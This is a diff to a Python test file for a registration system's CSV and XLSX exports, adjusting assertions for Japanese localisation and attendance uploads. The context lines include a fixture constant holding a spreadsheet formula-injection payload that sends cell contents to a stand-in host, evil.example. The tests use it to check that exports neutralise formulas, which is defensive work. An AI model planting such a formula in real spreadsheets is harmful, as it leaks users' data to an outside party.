@@ -13,7 +13,7 @@ from regional.extensions import db
 from regional.fiscal import fiscal_year_of, now_utc
 from regional.registrations.exports import neutralise
 from tests import factories
-from tests.fixtures_registrations import register
+from tests.fixtures_registrations import ja, register
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -102,11 +102,12 @@ def test_xlsx_stores_names_as_text_never_formulas(as_coordinator_a, shared):
     assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
 
 
-def test_admin_download_has_every_municipality(as_admin, shared):
+def test_admin_download_has_every_municipality(as_admin, shared, app):
     rows = read_csv(as_admin.get(f"/registrations/session/{shared}/export.csv"))
     assert {row[1] for row in rows[1:]} == {"332038", "332046"}
     statuses = {row[4]: row[10] for row in rows[1:]}
-    assert statuses["髙橋 太郎"] == "Enrolled"
+    with app.app_context():
+        assert statuses["髙橋 太郎"] == ja("Enrolled")  # the page's language: Japanese here
     positions = {row[4]: row[11] for row in rows[1:]}
     assert positions["𠮷野 花子"] == "1"
 
@@ -167,4 +168,4 @@ def test_the_download_can_be_filled_in_and_uploaded_as_attendance(as_admin, worl
         content_type="multipart/form-data",
     )
     assert page.status_code == 200
-    assert "2 marks are ready to save." in page.get_data(as_text=True)
+    assert page.get_data(as_text=True).count('<th scope="row">') == 2  # two marks to save
